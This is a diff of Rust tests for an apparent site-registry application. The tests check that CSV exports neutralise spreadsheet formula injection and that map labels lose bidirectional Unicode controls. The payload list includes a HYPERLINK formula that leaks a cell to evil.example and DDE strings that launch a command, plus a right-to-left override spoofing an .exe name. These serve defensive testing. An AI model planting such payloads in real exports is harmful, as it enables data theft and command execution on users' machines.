@@ -164,3 +164,68 @@ fn ten_thousand_markers_render_to_a_bounded_svg() {
     assert!(svg.contains("Map of 10000 sites"));
     assert!(svg.len() < 3_000_000, "{}", svg.len());
 }
+
+/// What a reporter might type as a place's name, aimed at whoever opens an export.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+#[test]
+fn csv_exports_neutralise_formulas_and_import_removes_the_guard() {
+    let hostile: Vec<Site> = FORMULAS
+        .iter()
+        .map(|f| Site {
+            names: vec![(*f).to_owned()],
+            address: (*f).to_owned(),
+            notes: (*f).to_owned(),
+            ..site("x", -33.86, -151.2, VerificationLevel::AllegationOnly)
+        })
+        .collect();
+    let sites: Vec<(SiteId, &Site)> = hostile.iter().map(|s| (SiteId::random(), s)).collect();
+    let csv = sites_csv(&sites);
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    for record in reader.records() {
+        let record = record.unwrap();
+        for name in ["names", "address", "notes"] {
+            let cell = &record[column(name)];
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{name}: {cell:?} would run as a formula"
+            );
+            assert!(cell.starts_with('\''), "{name}: {cell:?}");
+        }
+        // Coordinates stay numbers.
+        assert_eq!(&record[column("latitude")], "-33.86");
+        assert_eq!(&record[column("longitude")], "-151.2");
+    }
+    let read = parse_registry(&csv, RegistryFormat::Csv);
+    assert!(read.problems.is_empty(), "{:?}", read.problems);
+    // Read back as typed (trimmed, as every imported cell is; names split at "|").
+    let addresses: Vec<&str> = read.sites.iter().map(|s| s.address.as_str()).collect();
+    let typed: Vec<&str> = FORMULAS.iter().map(|f| f.trim()).collect();
+    assert_eq!(addresses, typed);
+}
+
+#[test]
+fn the_map_drops_bidirectional_controls_from_labels() {
+    let markers = [Marker {
+        lat: 43.88,
+        lon: 11.1,
+        level: VerificationLevel::Corroborated,
+        label: "Office \u{202E}txt.exe\u{202C} \u{2066}x\u{2069}".into(),
+        href: "/investigator/sites/1".into(),
+        country: "IT".into(),
+    }];
+    let svg = render_map(&MapView::World, &markers, &|_| None);
+    assert!(svg.contains("Office txt.exe x"), "{svg}");
+    for c in ('\u{202A}'..='\u{202E}').chain('\u{2066}'..='\u{2069}') {
+        assert!(!svg.contains(c), "U+{:04X} in the map", c as u32);
+    }
+}
